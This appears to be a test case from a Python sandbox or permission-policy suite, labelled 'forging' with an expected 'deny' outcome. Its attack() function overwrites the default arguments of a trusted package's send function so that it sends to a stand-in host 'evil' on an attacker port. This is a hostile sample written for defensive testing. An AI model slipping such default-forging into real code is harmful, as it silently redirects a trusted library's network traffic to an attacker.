"""A granted package's function is given other defaults."""
CATEGORY = "forging"
REACH = "net"
POLICIES = "deny"

from . import payload


def attack():
    import good
    good.send.__defaults__ = "evil", payload.PORT
